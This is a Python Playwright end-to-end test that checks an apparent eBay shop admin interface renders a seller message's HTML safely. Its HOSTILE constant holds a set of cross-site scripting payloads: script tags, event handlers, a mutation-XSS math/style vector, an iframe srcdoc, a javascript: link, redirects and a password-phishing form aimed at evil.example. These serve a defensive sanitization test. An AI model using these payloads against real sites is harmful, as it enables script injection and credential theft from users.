"""What others write is shown as they mean it, and does nothing: no script, no style, no picture from elsewhere."""

import json

import httpx
import pytest
from playwright.async_api import Page, expect

from tests.e2e.conftest import Visit
from tests.e2e.installation import ADMIN, SHOP, Installation
from tests.e2e.screens import column, count_is

EVIL = "evil.example"
HARMLESS = {"A", "B", "BR", "DIV", "LI", "P", "SPAN", "TABLE", "TBODY", "TD", "TR", "UL"}
ATTRIBUTES = {"colspan", "href", "rel", "target", "title"}
HOSTILE = f"""<!DOCTYPE html><html><head><title>Unseen</title><style>* {{ display: none }}</style>
<meta http-equiv="refresh" content="0;url=https://{EVIL}/"><base href="https://{EVIL}/">
<link rel="stylesheet" href="https://{EVIL}/a.css"></head><body onload="window.hacked = 1">
<div style="display:none">Unseen</div><p style="position:fixed" id="root" class="fixed">Your item <b>sold</b>.</p>
<script>window.hacked = 2</script><img src="https://{EVIL}/pixel" onerror="window.hacked = 3">
<svg onload="window.hacked = 4"><script>window.hacked = 5</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 6"></style></mglyph></table></mtext></math>
<iframe src="https://{EVIL}/" srcdoc="<script>parent.hacked = 7</script>"></iframe>
<form action="https://{EVIL}/"><input name="password"><button>Sign in</button></form>
<table background="https://{EVIL}/back"><tr><td colspan="2">A cell</td></tr></table>
<ul><li>A point</li></ul><a href="javascript:window.hacked = 8">Bad link</a>
<a href="https://www.ebay.com/mesh" onclick="window.hacked = 9">Good link</a></body></html>"""


@pytest.fixture
async def message(shop: Installation) -> str:
    """The id of a message of eBay's that holds all of it, and has been read."""
    async with httpx.AsyncClient(timeout=60) as client:
        truth = await client.get(f"{shop.ebay_url}/_emulator/truth/messages", params={"seller": SHOP})
    messages = [json.loads(line) for line in truth.raise_for_status().text.splitlines()]
    found = next(one for one in messages if one["message"]["senderUsername"] == "eBay")
    name = found["message"]["messageId"]
    change = {"op": "patch", "id": name, "payload": {"message": {"messageBody": HOSTILE}}}
    await shop.ebay("records", {"seller": SHOP, "entity": "messages", "changes": [change]})
    await shop.read("conversations")
    await shop.read("messages", full=True)
    return f"{found['conversationId']}:{name}"


async def opened(visit: Visit, message: str, asked: list[str]) -> Page:
    page = await visit(ADMIN, "/accounts")
    page.on("request", lambda request: asked.append(request.url))
    await page.goto(f"/browse/messages?filter=message_id:eq:{message.partition(':')[2]}&id={message}")
    await count_is(page, 1)
    return page


async def test_html_is_readable_and_harmless(message: str, visit: Visit) -> None:
    asked: list[str] = []
    page = await opened(visit, message, asked)
    text = page.get_by_role("region", name="Text", exact=True)
    await expect(text).to_contain_text("Your item sold.")
    await expect(text.get_by_role("cell", name="A cell")).to_be_visible()
    await expect(text.get_by_role("listitem")).to_have_text("A point")
    await expect(text).not_to_contain_text("Unseen")
    link = text.get_by_role("link", name="Good link")
    assert await link.get_attribute("href") == "https://www.ebay.com/mesh"
    assert await link.get_attribute("target") == "_blank"
    written = text.locator("> div").last.locator("*")
    tags = await written.evaluate_all("all => all.map(one => one.tagName)")
    names = await written.evaluate_all("all => all.flatMap(one => one.getAttributeNames())")
    assert set(tags) <= HARMLESS
    assert set(names) <= ATTRIBUTES
    assert await page.evaluate("window.hacked") is None
    assert [url for url in asked if EVIL in url] == []


async def test_the_list_shows_words_and_the_payload_what_was_sent(message: str, visit: Visit) -> None:
    page = await opened(visit, message, [])
    raw = page.get_by_role("region", name="Raw record")
    await expect(raw).to_contain_text("<!DOCTYPE html>")
    await page.get_by_role("button", name="Close").click()
    [words] = await column(page, "Text")
    assert "Your item sold." in words
    assert "<" not in words
    assert await column(page, "Read") in (["Yes"], ["No"])
